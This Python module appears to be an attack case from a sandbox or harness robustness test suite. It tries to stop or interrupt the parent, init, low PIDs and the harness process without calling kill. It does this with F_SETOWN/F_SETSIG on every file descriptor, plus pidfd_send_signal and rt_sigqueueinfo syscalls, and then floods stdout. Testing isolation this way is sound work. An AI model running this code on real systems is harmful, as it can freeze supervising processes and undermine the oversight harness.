"""Signal the worker without kill: F_SETOWN/F_SETOWN_EX + F_SETSIG + O_ASYNC on every fd, so
the kernel signals the owner (the parent, pid 1, 2, 3, the harness) whenever the other end of a
pipe is read or written; also pidfd_send_signal and rt_sigqueueinfo."""
import ctypes
import fcntl
import os
import signal
import struct
import time

F_SETSIG, F_SETOWN_EX, F_OWNER_PGRP = 10, 15, 2


def attack(ctx):
    libc = ctypes.CDLL(None, use_errno=True)
    targets = sorted({os.getppid(), 1, 2, 3, ctx["harness_pid"]} - {os.getpid(), 0})
    done = []
    for fd in range(0, 64):
        for pid in targets:
            try:
                fcntl.fcntl(fd, fcntl.F_SETOWN, pid)
                fcntl.fcntl(fd, F_SETSIG, signal.SIGSTOP)
                fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_ASYNC)
                done.append(("setown", fd, pid))
            except OSError:
                pass
            try:
                fcntl.fcntl(fd, F_SETOWN_EX, struct.pack("ii", F_OWNER_PGRP, pid))
            except OSError:
                pass
    for pid in targets:
        pfd = libc.syscall(434, pid, 0)
        if pfd >= 0:
            done.append(("pidfd_send_signal", pid, libc.syscall(424, pfd, signal.SIGINT, None, 0)))
        done.append(("rt_sigqueueinfo", pid,
                     libc.syscall(129, pid, signal.SIGUSR1, ctypes.create_string_buffer(128))))
    for _ in range(40):
        print("x" * 4000, flush=True)
        time.sleep(0.005)
    return done
